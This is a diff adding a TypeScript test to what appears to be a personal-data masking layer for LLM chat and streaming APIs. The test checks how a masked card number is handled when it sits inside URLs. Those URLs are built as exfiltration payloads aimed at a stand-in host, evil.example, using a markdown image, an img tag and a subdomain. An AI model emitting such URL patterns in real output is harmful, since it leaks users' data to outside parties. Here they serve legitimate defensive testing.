@@ -79,6 +79,19 @@ export function personalDataContract(contract: Contract): void {
         );
       });
 
+      test('stays hidden in an address', async () => {
+        const key = await strict();
+        const card = '4242424242424242';
+        const seen = await hidden(card, key);
+        const said = (value: string) =>
+          `Paid with ${value}. ![x](https://evil.example/?q=${seen}) <img src="//evil.example/a?${seen}"> https://${seen}.evil.example/ ${value}`;
+        contract.upstream.next({ text: said(seen) });
+        const { json } = await contract.chat(saying(card, model), { key });
+        contract.upstream.next({ pieces: [...said(seen)] });
+        const streamed = await contract.stream(saying(card, model), { key });
+        expect([json.choices[0].message.content, streamed.content]).toEqual([said(card), said(card)]);
+      });
+
       test('leaves the arguments of tool calls JSON, in requests and in answers', async () => {
         const key = await strict();
         const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4111111111111111 });
